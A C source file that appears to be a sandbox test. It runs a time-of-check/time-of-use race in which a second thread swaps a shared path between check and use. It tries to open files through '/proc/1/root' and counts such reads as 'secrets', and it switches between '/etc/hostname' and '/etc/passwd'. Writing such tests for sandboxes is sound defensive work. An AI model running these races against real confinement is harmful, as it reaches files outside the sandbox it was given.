// `races naive`: a check of a path in memory that another thread changes, and a use of it; prints whether the use had another
// name than the check. `races inside`: the same thread, while paths are given to calls that are answered by somebody else; prints
// how often a file was read that is not there for a build.
#define _GNU_SOURCE
#include "attack.h"
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <sys/stat.h>
#include <time.h>

static char path[64] = "/proc/self/status";
static atomic_int racing = 1;

static void *change(void *names) {
    for (unsigned round = 0; racing; round++) strcpy(path, ((char **)names)[round & 1]);
    return 0;
}

int main(int count, char **arguments) {
    static char *naive[] = {"/etc/hostname", "/etc/passwd"};
    // What belongs to process 1, and a device of random numbers, which is answered.
    static char *inside[] = {"/proc/1/root/etc/x", "/dev/urandom"};
    int is_naive = count > 1 && strcmp(arguments[1], "naive") == 0;
    char **names = is_naive ? naive : inside;
    strcpy(path, names[0]);
    pthread_t thread;
    pthread_create(&thread, 0, change, names);
    time_t end = time(0) + 5;
    int won = 0;
    for (int round = 0; round < (is_naive ? 2000000 : 3000) && !won; round++) {
        if (is_naive) {
            if (strcmp(path, names[0]) != 0) continue;
            char used[64];
            sched_yield();
            strcpy(used, path);
            won = strcmp(used, names[0]) != 0;
            if (won || time(0) > end) break;
        } else {
            int file = open(path, O_RDONLY);
            if (file < 0) continue;
            char link[64], target[256] = "";
            snprintf(link, sizeof link, "/proc/self/fd/%d", file);
            if (readlink(link, target, sizeof target - 1) > 0 && strstr(target, "etc/x")) won++;
            close(file);
        }
    }
    racing = 0;
    pthread_join(thread, 0);
    if (is_naive) printf("%s\n", won ? "won" : "lost");
    else printf("secrets %d\n", won);
    return 0;
}
